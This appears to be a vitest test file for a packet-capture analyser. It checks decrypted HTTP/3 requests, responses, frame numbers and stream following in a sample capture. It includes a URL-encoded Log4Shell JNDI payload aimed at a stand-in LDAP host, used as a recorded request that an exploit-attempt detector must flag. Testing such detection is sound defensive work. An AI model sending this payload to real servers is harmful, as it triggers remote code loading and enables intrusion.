/**
 * Requests and responses of HTTP/3, opened with keys. What was asked for stands in the commands of `captures/web-http3-keys.md`; sizes are what the servers said in
 * content-length. Frames are compared with tshark's in `readFields.test.ts`.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openCaptureFile } from '../../../src/analysis/captureFile.node.ts';
import { CaptureSession } from '../../../src/analysis/session.ts';
import { selectFrames } from '../../../src/analysis/filtering.ts';
import { EVERYTHING } from '../../../src/analysis/engineApi.ts';
import { headerValue, httpRequestMessage, httpResponseMessage } from '../../../src/pcap/http/messages.ts';
import { installPlatform } from '../../../src/pcap/platform.ts';
import { nodePlatform } from '../../../src/pcap/platform.node.ts';
import { analyzeCapture, sample } from '../../support/analyzeCapture.ts';
import { messagesOf } from '../../support/messagesOf.ts';

const FILE = sample('web-http3-keys.pcapng');
beforeAll(() => installPlatform(nodePlatform));
afterAll(() => installPlatform(null));

const LOG4J = '/products.json?name=%24%7Bjndi:ldap://198.51.100.66:1389/a%7D';

describe('the sample with keys', () => {
  it('has the requests that were made', async () => {
    const requests = await messagesOf(FILE, httpRequestMessage),
      said = requests.map(({ method, host, uri, version }) => `${version} ${method} ${host!} ${uri}`);
    // Chromium asks for an icon, too.
    expect(said.filter((one) => !one.includes('favicon')).sort()).toEqual(
      [
        '3 GET intranet.example.test /app.js',
        '3 GET www.example.com /about.html',
        `3 GET www.example.com ${LOG4J}`,
        '3 GET www.example.com /products.json',
        '3 GET www.example.com:4433 /',
        '3 GET www.example.com:4433 /about.html',
        '3 GET www.example.com:4433 /missing.html',
        '3 GET www.example.com:4433 /products.json',
        '3 POST www.example.com:4433 /login',
      ].sort(),
    );
    const form = requests.find(({ method }) => method === 'POST')!;
    expect(form.bodyStart).toMatch(/^user=alice&password=/);
  });

  it('has a response to each, with all of its body', async () => {
    const requests = await messagesOf(FILE, httpRequestMessage),
      responses = await messagesOf(FILE, httpResponseMessage);
    expect(responses).toHaveLength(requests.length);
    for (const response of responses) {
      expect(response.method, response.uri ?? '').not.toBeNull();
      expect(response.bodyLength, response.uri ?? '').toBe(Number(headerValue(response.headers, 'content-length') ?? response.bodyLength));
    }
    const statusOf = (host: string, uri: string): number | undefined => responses.find((one) => one.host === host && one.uri === uri)?.status;
    expect(statusOf('www.example.com:4433', '/missing.html')).toBe(404);
    expect(statusOf('www.example.com:4433', '/about.html')).toBe(200);
    expect(statusOf('intranet.example.test', '/app.js')).toBe(200);
  });

  it('has its frames where tshark 4.0 has them', async () => {
    const opened = await openCaptureFile({ kind: 'path', path: FILE });
    if (!opened.ok) throw new Error(opened.message);
    const { source, format } = opened.capture,
      frames = [...(await selectFrames(source, format, 'http3.frame_type == 1', undefined, {})).frames()];
    await opened.capture.close();
    // tshark -Y 'http3.frame_type == 1', but for 21 and 22, where the answer of 19 was sent again: here it is said once.
    expect(frames).toEqual([9, 13, 18, 19, 36, 39, 57, 59, 77, 80, 81, 82, 89, 95, 101, 104]);
  });

  it('is judged like HTTP in clear, and told apart from it', async () => {
    const report = await analyzeCapture(FILE);
    expect(report.findings.map(({ detector }) => detector)).toEqual(['exploit-attempt']);
    // What a click on the finding shows holds the frame that proves it.
    const { frames, filter } = report.findings[0]!.evidence,
      opened = await openCaptureFile({ kind: 'path', path: FILE });
    if (!opened.ok) throw new Error(opened.message);
    expect(frames).toEqual([101]);
    expect([...(await selectFrames(opened.capture.source, opened.capture.format, filter, undefined, {})).frames()]).toContain(101);
    await opened.capture.close();
    expect(report.protocols.map(({ protocol }) => protocol)).toContain('http3');
    // What went over the wire is QUIC.
    expect(report.breakdown.map(({ name }) => name)).toEqual(['quic']);
  });

  it('is followed opened, heads as lines of text', async () => {
    const opened = await openCaptureFile({ kind: 'path', path: FILE });
    if (!opened.ok) throw new Error(opened.message);
    const { source, format, file } = opened.capture,
      session = new CaptureSession(source, format, file, { version: 'test', emit: () => undefined });
    await session.read();
    const { signal } = new AbortController(),
      report = await session.handlers.report({ selection: EVERYTHING, limit: 100 }, signal);
    let text = '';
    for (const { id, layer } of report.conversations)
      if (layer === 'udp') {
        const page = await session.handlers.followStream({ flow: id, offset: 0, maxBytes: 1 << 20 }, signal);
        if (page?.isOpened === true) text += page.chunks.map(({ bytes }) => Buffer.from(bytes).toString('latin1')).join('');
      }
    await opened.capture.close();
    expect(text).toContain(`:path: ${LOG4J}\r\n`);
    expect(text).toContain(':status: 404\r\n');
    expect(text).toContain('user=alice&password=');
  });
});
